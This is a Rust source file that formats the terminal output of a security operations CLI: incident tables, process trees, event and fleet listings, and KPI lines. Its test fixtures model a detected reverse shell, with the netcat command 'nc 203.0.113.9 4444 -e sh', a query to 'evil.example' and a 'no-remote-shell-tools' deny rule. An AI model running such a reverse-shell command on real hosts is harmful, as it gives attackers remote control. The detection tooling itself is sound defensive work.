//! The human output of the SOC commands: tables, the incident page with its
//! process tree, the KPI line. Every function returns the text, so that
//! tests can read it.
//!
//! What agents report (command lines, paths, DNS names) is written by
//! whoever ran the process, attacker included: control characters are
//! shown escaped (`\u{1b}`, `\n`), never sent to the terminal.

use std::{
    collections::{HashMap, HashSet},
    fmt::Write as _,
};

use proto::query::{Agent, Event, Incident, IncidentDetail, Kpi, ProcessNode};

use crate::when::{date_of, short};

/// Text from the wire made safe for a terminal line.
pub fn clean(text: &str) -> String {
    if !text.chars().any(char::is_control) {
        return text.to_owned();
    }
    text.chars()
        .map(|c| {
            if c.is_control() {
                c.escape_debug().to_string()
            } else {
                c.to_string()
            }
        })
        .collect()
}

/// A command line as one string, arguments with blanks or quotes quoted.
pub fn join_argv(argv: &[String]) -> String {
    argv.iter()
        .map(|arg| {
            if !arg.is_empty()
                && !arg
                    .chars()
                    .any(|c| c.is_whitespace() || matches!(c, '\'' | '"' | '\\'))
            {
                arg.clone()
            } else {
                format!("'{}'", arg.replace('\'', r"'\''"))
            }
        })
        .collect::<Vec<_>>()
        .join(" ")
}

/// Columns aligned on the widest cell; the last column is not padded.
pub struct Table {
    header: Vec<&'static str>,
    /// Columns aligned right (numbers).
    right: Vec<bool>,
    rows: Vec<Vec<String>>,
}

impl Table {
    /// `header`: column names; a name starting with `>` is a right-aligned
    /// column (the `>` is not shown).
    pub fn new(header: &[&'static str]) -> Self {
        Self {
            right: header.iter().map(|h| h.starts_with('>')).collect(),
            header: header.iter().map(|h| h.trim_start_matches('>')).collect(),
            rows: Vec::new(),
        }
    }

    pub fn row(&mut self, cells: Vec<String>) {
        self.rows.push(cells.iter().map(|c| clean(c)).collect());
    }

    pub fn render(&self) -> String {
        let width = |s: &str| s.chars().count();
        let mut widths: Vec<usize> = self.header.iter().map(|h| width(h)).collect();
        for row in &self.rows {
            for (w, cell) in widths.iter_mut().zip(row) {
                *w = (*w).max(width(cell));
            }
        }
        let mut out = String::new();
        let header: Vec<String> = self.header.iter().map(|h| h.to_string()).collect();
        for row in std::iter::once(&header).chain(&self.rows) {
            let mut line = String::new();
            let last = row.len().saturating_sub(1);
            for (i, cell) in row.iter().enumerate() {
                if i > 0 {
                    line.push_str("  ");
                }
                let pad = " ".repeat(widths[i].saturating_sub(width(cell)));
                if self.right[i] {
                    line.push_str(&pad);
                    line.push_str(cell);
                } else {
                    line.push_str(cell);
                    if i < last {
                        line.push_str(&pad);
                    }
                }
            }
            out.push_str(line.trim_end());
            out.push('\n');
        }
        out
    }
}

fn or_dash(text: &str) -> String {
    if text.is_empty() {
        "-".to_owned()
    } else {
        text.to_owned()
    }
}

fn plural(n: usize, one: &str, many: &str) -> String {
    format!("{n} {}", if n == 1 { one } else { many })
}

/// `ztctl incidents list`: the table and a last line with the count and,
/// when there is one, how to get the next page.
pub fn incident_list(incidents: &[Incident], next_page_token: &str) -> String {
    let mut out = String::new();
    if !incidents.is_empty() {
        let mut table = Table::new(&[
            "ID",
            "SEVERITY",
            "STATUS",
            ">COUNT",
            "HOST",
            "RULE",
            "FIRST SEEN",
            "LAST SEEN",
            "TITLE",
        ]);
        for i in incidents {
            table.row(vec![
                i.id.clone(),
                i.severity.clone(),
                i.status.clone(),
                i.count.to_string(),
                or_dash(&i.host),
                i.rule_id.clone(),
                short(&i.first_seen),
                short(&i.last_seen),
                i.title.clone(),
            ]);
        }
        out.push_str(&table.render());
    }
    out.push_str(&plural(incidents.len(), "incident", "incidents"));
    out.push_str(&next_page(next_page_token));
    out.push('\n');
    out
}

fn next_page(token: &str) -> String {
    if token.is_empty() {
        String::new()
    } else {
        format!(
            "; more: repeat with --page-token {} (or --all)",
            clean(token)
        )
    }
}

/// The severity, and why it is above the rule's.
fn severity_line(i: &Incident) -> String {
    let mut line = i.severity.clone();
    if !i.rule_severity.is_empty() && i.rule_severity != i.severity {
        let _ = write!(line, " (rule: {}", i.rule_severity);
        if !i.escalation.is_empty() {
            let _ = write!(line, "; escalated: {}", i.escalation);
        }
        line.push(')');
    } else if !i.escalation.is_empty() {
        let _ = write!(line, " (escalated: {})", i.escalation);
    }
    line
}

fn by_at(by: &str, at: &str) -> String {
    match (by.is_empty(), at.is_empty()) {
        (true, true) => String::new(),
        (false, true) => format!("by {by}"),
        (true, false) => format!("at {}", short(at)),
        (false, false) => format!("by {by} at {}", short(at)),
    }
}

/// `ztctl incidents show`: the header, the process tree, the events, the
/// network timeline and the history.
pub fn incident_detail(detail: &IncidentDetail) -> String {
    let mut out = String::new();
    let fallback = Incident::default();
    let i = detail.incident.as_ref().unwrap_or(&fallback);
    let _ = writeln!(out, "{}", clean(&i.title));
    let mut field = |name: &str, value: String| {
        if !value.is_empty() {
            let _ = writeln!(out, "  {name:<13} {}", clean(&value));
        }
    };
    field("id", i.id.clone());
    field("rule", i.rule_id.clone());
    field("severity", severity_line(i));
    field("status", i.status.clone());
    let host = match (i.host.is_empty(), i.device_id.is_empty()) {
        (_, true) => i.host.clone(),
        (true, false) => format!("device {}", i.device_id),
        (false, false) => format!("{} (device {})", i.host, i.device_id),
    };
    field("host", host);
    field("also on", i.spread_hosts.join(", "));
    field("org", i.org_id.clone());
    field("first seen", short(&i.first_seen));
    field("last seen", short(&i.last_seen));
    field("count", i.count.to_string());
    field("mitre", i.mitre.join(", "));
    field("root process", i.process_tree_root.clone());
    field(
        "acknowledged",
        by_at(&i.acknowledged_by, &i.acknowledged_at),
    );
    field("resolved", by_at(&i.resolved_by, &i.resolved_at));
    field("note", i.note.clone());
    field("description", i.description.clone());

    out.push_str("\nProcess tree (* made one of the incident's events):\n");
    if detail.process_tree.is_empty() {
        out.push_str("  (none)\n");
    } else {
        for line in process_tree(&detail.process_tree) {
            let _ = writeln!(out, "  {line}");
        }
    }

    let _ = writeln!(out, "\nEvents ({}):", detail.events.len());
    if detail.events.is_empty() {
        out.push_str("  (none)\n");
    } else {
        let mut table = Table::new(&["TIME", "KIND", "ACTION", ">PID", "EXE", "DETAIL"]);
        for e in &detail.events {
            table.row(vec![
                short(&e.time),
                e.kind.clone(),
                e.action.clone(),
                e.pid.to_string(),
                e.exe.clone(),
                event_detail(e),
            ]);
        }
        indent(&mut out, &table.render());
    }

    let _ = writeln!(
        out,
        "\nNetwork timeline ({}):",
        detail.network_timeline.len()
    );
    if detail.network_timeline.is_empty() {
        out.push_str("  (none)\n");
    } else {
        let mut table = Table::new(&["TIME", "KIND", "ACTION", ">PID", "EXE", "REMOTE", "DETAIL"]);
        for e in &detail.network_timeline {
            table.row(vec![
                short(&e.time),
                e.kind.clone(),
                e.action.clone(),
                e.pid.to_string(),
                e.exe.clone(),
                or_dash(&e.remote),
                network_detail(e),
            ]);
        }
        indent(&mut out, &table.render());
    }

    out.push_str("\nHistory:\n");
    if detail.history.is_empty() {
        out.push_str("  (none)\n");
    } else {
        let mut table = Table::new(&["AT", "STATUS", "BY", "NOTE"]);
        for h in &detail.history {
            table.row(vec![
                short(&h.at),
                h.status.clone(),
                or_dash(&h.by),
                h.note.clone(),
            ]);
        }
        indent(&mut out, &table.render());
    }
    out
}

fn indent(out: &mut String, text: &str) {
    for line in text.lines() {
        let _ = writeln!(out, "  {line}");
    }
}

/// One line of the tree: `pid exe argv [user, started]`, `*` first when the
/// process made one of the incident's events.
fn node_line(n: &ProcessNode) -> String {
    let mut line = String::new();
    if n.in_incident {
        line.push_str("* ");
    }
    let _ = write!(line, "{} {}", n.pid, or_dash(&n.exe));
    // argv[0] is usually the exe again; show the arguments after it.
    let args = match n.argv.split_first() {
        Some((first, rest)) if *first == n.exe || n.exe.ends_with(&format!("/{first}")) => rest,
        _ => &n.argv[..],
    };
    if !args.is_empty() {
        let _ = write!(line, " {}", join_argv(args));
    }
    let mut about = Vec::new();
    if !n.user.is_empty() {
        about.push(n.user.clone());
    }
    if !n.started.is_empty() {
        about.push(format!("started {}", short(&n.started)));
    }
    if !about.is_empty() {
        let _ = write!(line, "  [{}]", about.join(", "));
    }
    clean(&line)
}

/// The process tree, one line a process, drawn with `├─`, `└─` and `│`.
/// A node is a root when its `ppid` is 0 or not in the tree; children
/// keep the order of the list. A pid seen twice (reuse) or a loop is
/// drawn once.
pub fn process_tree(nodes: &[ProcessNode]) -> Vec<String> {
    let pids: HashSet<u32> = nodes.iter().map(|n| n.pid).collect();
    let mut children: HashMap<u32, Vec<usize>> = HashMap::new();
    let mut roots = Vec::new();
    for (index, n) in nodes.iter().enumerate() {
        if n.ppid == 0 || n.ppid == n.pid || !pids.contains(&n.ppid) {
            roots.push(index);
        } else {
            children.entry(n.ppid).or_default().push(index);
        }
    }
    let mut lines = Vec::new();
    let mut drawn = vec![false; nodes.len()];
    let mut seen_pids = HashSet::new();
    for &root in &roots {
        draw(
            nodes,
            &children,
            root,
            "",
            None,
            &mut drawn,
            &mut seen_pids,
            &mut lines,
        );
    }
    // Nodes only reachable through a loop (a ↔ b): drawn as roots.
    for index in 0..nodes.len() {
        if !drawn[index] {
            draw(
                nodes,
                &children,
                index,
                "",
                None,
                &mut drawn,
                &mut seen_pids,
                &mut lines,
            );
        }
    }
    lines
}

/// Draws `index` and below. `last`: `None` for a root, else whether it is
/// its parent's last child.
#[allow(clippy::too_many_arguments)]
fn draw(
    nodes: &[ProcessNode],
    children: &HashMap<u32, Vec<usize>>,
    index: usize,
    prefix: &str,
    last: Option<bool>,
    drawn: &mut [bool],
    seen_pids: &mut HashSet<u32>,
    lines: &mut Vec<String>,
) {
    if drawn[index] {
        return;
    }
    drawn[index] = true;
    let node = &nodes[index];
    let (connector, below) = match last {
        None => ("", prefix.to_owned()),
        Some(false) => ("├─ ", format!("{prefix}│  ")),
        Some(true) => ("└─ ", format!("{prefix}   ")),
    };
    lines.push(format!("{prefix}{connector}{}", node_line(node)));
    // The children of a pid hang under its first node only.
    if !seen_pids.insert(node.pid) {
        return;
    }
    let kids: Vec<usize> = children
        .get(&node.pid)
        .map(|k| k.iter().copied().filter(|&k| !drawn[k]).collect())
        .unwrap_or_default();
    let count = kids.len();
    for (n, kid) in kids.into_iter().enumerate() {
        draw(
            nodes,
            children,
            kid,
            &below,
            Some(n + 1 == count),
            drawn,
            seen_pids,
            lines,
        );
    }
}

/// What an event is about: the command line of a process event, the path
/// of a file event, the other end (and the name or rule) of the others.
pub fn event_detail(e: &Event) -> String {
    let argv = join_argv(&e.argv);
    let path = if e.target_path.is_empty() {
        e.path.clone()
    } else {
        format!("{} → {}", e.path, e.target_path)
    };
    let network = network_detail(e);
    let network = match (e.remote.is_empty(), network.is_empty()) {
        (true, _) => network,
        (false, true) => e.remote.clone(),
        (false, false) => format!("{} {network}", e.remote),
    };
    let preferred = match e.kind.as_str() {
        "process" => [argv, path, network],
        "file" => [path, argv, network],
        _ => [network, path, argv],
    };
    preferred
        .into_iter()
        .find(|d| !d.is_empty())
        .unwrap_or_default()
}

/// The DNS name, or the decision's rule and reason.
fn network_detail(e: &Event) -> String {
    let mut parts = Vec::new();
    if !e.query_name.is_empty() {
        parts.push(e.query_name.clone());
    }
    if !e.rule_id.is_empty() {
        parts.push(format!("rule {}", e.rule_id));
    }
    if !e.reason.is_empty() {
        parts.push(format!("({})", e.reason));
    }
    parts.join(" ")
}

/// `ztctl events search`.
pub fn event_list(events: &[Event], next_page_token: &str) -> String {
    let mut out = String::new();
    if !events.is_empty() {
        let mut table = Table::new(&[
            "TIME", "HOST", "KIND", "ACTION", ">PID", "USER", "EXE", "DETAIL",
        ]);
        for e in events {
            table.row(vec![
                short(&e.time),
                or_dash(&e.host),
                e.kind.clone(),
                e.action.clone(),
                e.pid.to_string(),
                or_dash(&e.user),
                or_dash(&e.exe),
                event_detail(e),
            ]);
        }
        out.push_str(&table.render());
    }
    out.push_str(&plural(events.len(), "event", "events"));
    out.push_str(&next_page(next_page_token));
    out.push('\n');
    out
}

/// `ztctl fleet list`. DROPS: events lost in the kernel and in the
/// agent's queue.
pub fn fleet(agents: &[Agent]) -> String {
    let mut out = String::new();
    if !agents.is_empty() {
        let mut table = Table::new(&[
            "ORG",
            "DEVICE",
            "HOST",
            "STATE",
            "VERSION",
            "LAST HEARTBEAT",
            ">POLICY",
            ">SENSORS",
            ">SPOOL",
            ">DROPS",
            "CERT EXPIRES",
        ]);
        for a in agents {
            table.row(vec![
                a.org_id.clone(),
                a.device_id.clone(),
                or_dash(&a.hostname),
                a.state.clone(),
                or_dash(&a.agent_version),
                or_dash(&short(&a.last_heartbeat)),
                a.policy_serial.to_string(),
                a.active_sensors.len().to_string(),
                a.spool_events.to_string(),
                a.kernel_drops.saturating_add(a.queue_dropped).to_string(),
                or_dash(&short(&a.certificate_not_after)),
            ]);
        }
        out.push_str(&table.render());
    }
    let state = |s: &str| agents.iter().filter(|a| a.state == s).count();
    let _ = writeln!(
        out,
        "{}: {} online, {} offline, {} revoked",
        plural(agents.len(), "agent", "agents"),
        state("online"),
        state("offline"),
        state("revoked")
    );
    out
}

/// Severities, most severe first, then any other the collector counts.
fn severities(counts: &HashMap<String, u64>) -> String {
    let known = ["critical", "high", "medium", "low"];
    let mut parts: Vec<String> = known
        .iter()
        .map(|s| format!("{s} {}", counts.get(*s).copied().unwrap_or(0)))
        .collect();
    let mut others: Vec<(&String, &u64)> = counts
        .iter()
        .filter(|(s, _)| !known.contains(&s.as_str()))
        .collect();
    others.sort();
    parts.extend(others.into_iter().map(|(s, n)| format!("{s} {n}")));
    parts.join(", ")
}

/// The first and last day of the fiscal year: April to March by its
/// label (`FY2026`: 2026-04-01 – 2027-03-31), whatever offset the bounds
/// are written in; else the bounds' dates.
fn fiscal_dates(k: &Kpi) -> String {
    let year = k
        .fiscal_year
        .strip_prefix("FY")
        .filter(|y| y.len() == 4)
        .and_then(|y| y.parse::<u32>().ok())
        .filter(|y| *y < 9999);
    match year {
        Some(y) => format!("{y:04}-04-01 – {:04}-03-31", y + 1),
        None => format!(
            "{} – {}",
            clean(&date_of(&k.fiscal_year_start, false)),
            clean(&date_of(&k.fiscal_year_end, true))
        ),
    }
}

/// `ztctl kpi`: one line, e.g. `FY2026 (2026-04-01 – 2027-03-31): 2
/// incidents against a target of 0 — critical 1, high 1, medium 0, low 0;
/// 1 open; 3 days since the last one`.
pub fn kpi(k: &Kpi) -> String {
    let mut out = format!("{} ({}): ", clean(&k.fiscal_year), fiscal_dates(k));
    let incidents = plural(k.incidents as usize, "incident", "incidents");
    let last = match k.days_since_last {
        d if d < 0 => "none ever".to_owned(),
        0 => "the last one today".to_owned(),
        1 => "1 day since the last one".to_owned(),
        d => format!("{d} days since the last one"),
    };
    if k.on_target {
        let _ = write!(out, "on target: {incidents}");
        if k.incidents > 0 {
            let _ = write!(out, " (target {})", k.target);
        }
        if k.open > 0 {
            let _ = write!(out, ", {} open", k.open);
        }
        let _ = write!(out, ", {last}");
    } else {
        let _ = write!(
            out,
            "{incidents} against a target of {} — {}; {} open; {last}",
            k.target,
            severities(&k.by_severity),
            k.open
        );
    }
    if k.days_since_last >= 0 && !k.last_incident.is_empty() {
        let _ = write!(out, " ({})", clean(&short(&k.last_incident)));
    }
    out.push('\n');
    if !k.org_ids.is_empty() {
        let _ = writeln!(out, "organisations: {}", clean(&k.org_ids.join(", ")));
    }
    out
}

/// One line after `incidents ack` / `resolve`.
pub fn updated(i: &Incident) -> String {
    let who = match i.status.as_str() {
        "resolved" => by_at(&i.resolved_by, &i.resolved_at),
        "acknowledged" => by_at(&i.acknowledged_by, &i.acknowledged_at),
        _ => String::new(),
    };
    let mut line = format!("{} {}", i.id, i.status);
    if !who.is_empty() {
        let _ = write!(line, " {who}");
    }
    let _ = write!(line, ": {} ({}, {})", i.title, i.severity, or_dash(&i.host));
    if !i.note.is_empty() {
        let _ = write!(line, " — note: {}", i.note);
    }
    clean(&line)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn node(pid: u32, ppid: u32, exe: &str, in_incident: bool) -> ProcessNode {
        ProcessNode {
            pid,
            ppid,
            exe: exe.to_owned(),
            argv: vec![exe.rsplit('/').next().unwrap_or(exe).to_owned()],
            user: String::new(),
            started: String::new(),
            in_incident,
        }
    }

    fn sample_detail() -> IncidentDetail {
        let incident = Incident {
            id: "inc-7f3a".into(),
            title: "Reverse shell from a web server".into(),
            rule_id: "reverse-shell".into(),
            severity: "critical".into(),
            mitre: vec!["T1059.004".into(), "T1071".into()],
            host: "web-1".into(),
            status: "acknowledged".into(),
            first_seen: "2026-04-10T09:15:02.123456789Z".into(),
            last_seen: "2026-04-10T09:20:44.5Z".into(),
            count: 4,
            org_id: "city-a".into(),
            device_id: "pc-12".into(),
            rule_severity: "high".into(),
            escalation: "seen on 3 hosts".into(),
            process_tree_root: "1200:/usr/sbin/nginx".into(),
            spread_hosts: vec!["web-2".into(), "web-3".into()],
            acknowledged_by: "alice".into(),
            acknowledged_at: "2026-04-10T09:30:00Z".into(),
            note: "looking".into(),
            ..Default::default()
        };
        let mut sh = node(1300, 1200, "/bin/sh", true);
        sh.argv = vec!["sh".into(), "-c".into(), "nc 203.0.113.9 4444 -e sh".into()];
        sh.user = "www-data".into();
        sh.started = "2026-04-10T09:15:01.999Z".into();
        IncidentDetail {
            incident: Some(incident),
            events: vec![
                Event {
                    time: "2026-04-10T09:15:02.123456789Z".into(),
                    kind: "process".into(),
                    action: "exec".into(),
                    pid: 1301,
                    exe: "/usr/bin/nc".into(),
                    argv: vec!["nc".into(), "203.0.113.9".into(), "4444".into()],
                    ..Default::default()
                },
                Event {
                    time: "2026-04-10T09:16:00Z".into(),
                    kind: "file".into(),
                    action: "open_write".into(),
                    pid: 1300,
                    exe: "/bin/sh".into(),
                    path: "/tmp/.x".into(),
                    ..Default::default()
                },
            ],
            // nginx ─┬─ sh ─┬─ nc
            //        │      └─ cat
            //        └─ nginx (worker)
            // and cron on its own.
            process_tree: vec![
                node(1200, 0, "/usr/sbin/nginx", false),
                sh,
                node(1301, 1300, "/usr/bin/nc", true),
                node(1302, 1300, "/bin/cat", false),
                node(1201, 1200, "/usr/sbin/nginx", false),
                node(900, 1, "/usr/sbin/cron", false),
            ],
            network_timeline: vec![
                Event {
                    time: "2026-04-10T09:15:01Z".into(),
                    kind: "dns".into(),
                    action: "query".into(),
                    pid: 1301,
                    exe: "/usr/bin/nc".into(),
                    remote: "10.0.0.53:53".into(),
                    query_name: "evil.example".into(),
                    ..Default::default()
                },
                Event {
                    time: "2026-04-10T09:15:02Z".into(),
                    kind: "decision".into(),
                    action: "denied".into(),
                    pid: 1301,
                    exe: "/usr/bin/nc".into(),
                    remote: "203.0.113.9:4444".into(),
                    rule_id: "no-remote-shell-tools".into(),
                    reason: "binary nc".into(),
                    ..Default::default()
                },
            ],
            history: vec![
                proto::query::IncidentChange {
                    status: "open".into(),
                    by: String::new(),
                    at: "2026-04-10T09:15:02Z".into(),
                    note: String::new(),
                },
                proto::query::IncidentChange {
                    status: "acknowledged".into(),
                    by: "alice".into(),
                    at: "2026-04-10T09:30:00Z".into(),
                    note: "looking".into(),
                },
            ],
        }
    }

    #[test]
    fn a_three_level_tree_with_siblings_gets_the_right_connectors() {
        let lines = process_tree(&sample_detail().process_tree);
        assert_eq!(
            lines,
            [
                "1200 /usr/sbin/nginx",
                "├─ * 1300 /bin/sh -c 'nc 203.0.113.9 4444 -e sh'  [www-data, started 2026-04-10T09:15:01Z]",
                "│  ├─ * 1301 /usr/bin/nc",
                "│  └─ 1302 /bin/cat",
                "└─ 1201 /usr/sbin/nginx",
                "900 /usr/sbin/cron",
            ]
        );
    }

    #[test]
    fn deeper_trees_carry_the_bars_of_unfinished_levels() {
        let nodes = vec![
            node(1, 0, "a", false),
            node(2, 1, "b", false),
            node(3, 2, "c", false),
            node(4, 3, "d", true),
            node(5, 2, "e", false),
            node(6, 1, "f", false),
        ];
        let lines = process_tree(&nodes);
        assert_eq!(
            lines,
            [
                "1 a",
                "├─ 2 b",
                "│  ├─ 3 c",
                "│  │  └─ * 4 d",
                "│  └─ 5 e",
                "└─ 6 f",
            ]
        );
    }

    #[test]
    fn loops_and_reused_pids_are_drawn_once() {
        let nodes = vec![
            node(10, 11, "x", false),
            node(11, 10, "y", false),
            node(12, 0, "z", false),
            node(12, 0, "z2", false),
            node(13, 12, "w", false),
        ];
        let lines = process_tree(&nodes);
        assert_eq!(lines.len(), 5, "{lines:?}");
        assert_eq!(lines[0], "12 z");
        assert_eq!(lines[1], "└─ 13 w");
        assert_eq!(lines[2], "12 z2");
        assert!(lines[3..].contains(&"10 x".to_owned()), "{lines:?}");
    }

    #[test]
    fn the_incident_page_has_header_tree_events_timeline_history() {
        let text = incident_detail(&sample_detail());
        let expect_in_order = [
            "Reverse shell from a web server\n",
            "  id            inc-7f3a\n",
            "  rule          reverse-shell\n",
            "  severity      critical (rule: high; escalated: seen on 3 hosts)\n",
            "  status        acknowledged\n",
            "  host          web-1 (device pc-12)\n",
            "  also on       web-2, web-3\n",
            "  org           city-a\n",
            "  first seen    2026-04-10T09:15:02Z\n",
            "  last seen     2026-04-10T09:20:44Z\n",
            "  count         4\n",
            "  mitre         T1059.004, T1071\n",
            "  root process  1200:/usr/sbin/nginx\n",
            "  acknowledged  by alice at 2026-04-10T09:30:00Z\n",
            "  note          looking\n",
            "Process tree (* made one of the incident's events):\n",
            "  1200 /usr/sbin/nginx\n  ├─ * 1300 /bin/sh",
            "  │  └─ 1302 /bin/cat\n  └─ 1201 /usr/sbin/nginx\n  900 /usr/sbin/cron\n",
            "Events (2):\n",
            "  TIME                  KIND     ACTION       PID  EXE          DETAIL\n",
            "  2026-04-10T09:15:02Z  process  exec        1301  /usr/bin/nc  nc 203.0.113.9 4444\n",
            "  2026-04-10T09:16:00Z  file     open_write  1300  /bin/sh      /tmp/.x\n",
            "Network timeline (2):\n",
            "dns       query   ",
            "10.0.0.53:53      evil.example\n",
            "decision  denied",
            "203.0.113.9:4444  rule no-remote-shell-tools (binary nc)\n",
            "History:\n",
            "  AT                    STATUS        BY     NOTE\n",
            "  2026-04-10T09:15:02Z  open          -\n",
            "  2026-04-10T09:30:00Z  acknowledged  alice  looking\n",
        ];
        let mut from = 0;
        for piece in expect_in_order {
            match text[from..].find(piece) {
                Some(at) => from += at + piece.len(),
                None => panic!("{piece:?} not found in order in:\n{text}"),
            }
        }
        // No resolution yet: no such line.
        assert!(!text.contains("resolved "), "{text}");
    }

    #[test]
    fn an_empty_detail_still_renders() {
        let text = incident_detail(&IncidentDetail::default());
        assert!(text.contains("Process tree"));
        assert!(text.contains("Events (0):\n  (none)"));
        assert!(text.contains("History:\n  (none)"));
    }

    #[test]
    fn the_incident_table_is_aligned_and_tells_how_to_page() {
        let detail = sample_detail();
        let mut second = detail.incident.clone().unwrap();
        second.id = "inc-1".into();
        second.severity = "low".into();
        second.status = "open".into();
        second.count = 120;
        second.host = String::new();
        second.title = "Agent silent".into();
        let incidents = [detail.incident.unwrap(), second];
        let text = incident_list(&incidents, "tok-2");
        let lines: Vec<&str> = text.lines().collect();
        assert_eq!(lines.len(), 4, "{text}");
        assert_eq!(
            lines[0],
            "ID        SEVERITY  STATUS        COUNT  HOST   RULE           FIRST SEEN            LAST SEEN             TITLE"
        );
        assert_eq!(
            lines[1],
            "inc-7f3a  critical  acknowledged      4  web-1  reverse-shell  2026-04-10T09:15:02Z  2026-04-10T09:20:44Z  Reverse shell from a web server"
        );
        assert!(lines[2].starts_with("inc-1     low       open            120  -      "));
        assert_eq!(
            lines[3],
            "2 incidents; more: repeat with --page-token tok-2 (or --all)"
        );
        assert_eq!(incident_list(&[], ""), "0 incidents\n");
    }

    #[test]
    fn event_details_follow_the_kind() {
        let process = Event {
            kind: "process".into(),
            argv: vec!["bash".into(), "-c".into(), "echo 'hi'".into()],
            ..Default::default()
        };
        assert_eq!(event_detail(&process), r"bash -c 'echo '\''hi'\'''");
        let rename = Event {
            kind: "file".into(),
            path: "/etc/a".into(),
            target_path: "/etc/b".into(),
            ..Default::default()
        };
        assert_eq!(event_detail(&rename), "/etc/a → /etc/b");
        let dns = Event {
            kind: "dns".into(),
            remote: "10.0.0.53:53".into(),
            query_name: "example.org".into(),
            ..Default::default()
        };
        assert_eq!(event_detail(&dns), "10.0.0.53:53 example.org");
        let connect = Event {
            kind: "network".into(),
            remote: "[2001:db8::1]:443".into(),
            ..Default::default()
        };
        assert_eq!(event_detail(&connect), "[2001:db8::1]:443");
        let text = event_list(&[process, rename, dns, connect], "");
        assert_eq!(text.lines().count(), 6, "{text}");
        assert!(text.starts_with("TIME  HOST  KIND     ACTION  PID  USER  EXE  DETAIL\n"));
        assert!(text.ends_with("\n4 events\n"));
    }

    #[test]
    fn terminal_control_characters_are_escaped() {
        let e = Event {
            kind: "process".into(),
            argv: vec!["\u{1b}]0;pwned\u{7}".into(), "a\nb".into()],
            ..Default::default()
        };
        let text = event_list(&[e], "");
        assert!(!text.contains('\u{1b}') && !text.contains('\u{7}'));
        assert!(text.contains(r"\u{1b}]0;pwned\u{7}"), "{text}");
        assert_eq!(text.lines().count(), 3, "{text}");
    }

    #[test]
    fn the_fleet_table_counts_sensors_and_drops() {
        let agent = Agent {
            org_id: "city-a".into(),
            device_id: "pc-12".into(),
            hostname: "pc-12.city-a".into(),
            agent_version: "0.1.0".into(),
            state: "online".into(),
            last_heartbeat: "2026-04-10T09:15:02.5Z".into(),
            active_sensors: vec!["process".into(), "file".into(), "network".into()],
            policy_serial: 42,
            certificate_not_after: "2026-05-10T00:00:00Z".into(),
            spool_events: 7,
            kernel_drops: 2,
            queue_dropped: 3,
            ..Default::default()
        };
        let text = fleet(&[agent]);
        let lines: Vec<&str> = text.lines().collect();
        assert_eq!(
            lines[0],
            "ORG     DEVICE  HOST          STATE   VERSION  LAST HEARTBEAT        POLICY  SENSORS  SPOOL  DROPS  CERT EXPIRES"
        );
        assert_eq!(
            lines[1],
            "city-a  pc-12   pc-12.city-a  online  0.1.0    2026-04-10T09:15:02Z      42        3      7      5  2026-05-10T00:00:00Z"
        );
        assert_eq!(lines[2], "1 agent: 1 online, 0 offline, 0 revoked");
    }

    #[test]
    fn the_kpi_line() {
        let mut k = Kpi {
            fiscal_year: "FY2026".into(),
            fiscal_year_start: "2026-03-31T15:00:00Z".into(),
            fiscal_year_end: "2027-03-31T15:00:00Z".into(),
            target: 0,
            incidents: 2,
            by_severity: [("critical".to_owned(), 1), ("high".to_owned(), 1)].into(),
            open: 1,
            days_since_last: 3,
            on_target: false,
            ..Default::default()
        };
        assert_eq!(
            kpi(&k),
            "FY2026 (2026-04-01 – 2027-03-31): 2 incidents against a target of 0 — critical 1, high 1, medium 0, low 0; 1 open; 3 days since the last one\n"
        );
        k.incidents = 0;
        k.by_severity.clear();
        k.open = 0;
        k.days_since_last = -1;
        k.on_target = true;
        k.org_ids = vec!["city-a".into(), "city-b".into()];
        k.fiscal_year = "year".into();
        k.fiscal_year_start = "2026-04-01T00:00:00+09:00".into();
        k.fiscal_year_end = "2027-04-01T00:00:00+09:00".into();
        assert_eq!(
            kpi(&k),
            "year (2026-04-01 – 2027-03-31): on target: 0 incidents, none ever\norganisations: city-a, city-b\n"
        );
    }

    #[test]
    fn the_update_confirmation_says_who() {
        let mut i = sample_detail().incident.unwrap();
        assert_eq!(
            updated(&i),
            "inc-7f3a acknowledged by alice at 2026-04-10T09:30:00Z: Reverse shell from a web server (critical, web-1) — note: looking"
        );
        i.status = "resolved".into();
        i.resolved_by = "bob".into();
        i.resolved_at = "2026-04-10T10:00:00Z".into();
        i.note = "false positive".into();
        assert!(updated(&i).starts_with("inc-7f3a resolved by bob at 2026-04-10T10:00:00Z: "));
    }
}
